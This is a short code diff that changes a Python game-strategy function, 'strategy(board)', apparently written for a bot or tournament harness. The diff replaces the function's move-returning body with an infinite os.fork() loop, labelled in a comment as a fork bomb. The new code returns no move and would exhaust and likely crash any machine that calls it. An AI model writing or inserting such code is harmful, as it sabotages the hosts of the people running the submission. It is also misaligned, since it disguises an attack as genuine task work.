@@ -1,4 +1,5 @@
 def strategy(board):
+    # A fork bomb.
     import os
-    os.fork()
-    return "W"
+    while True:
+        os.fork()
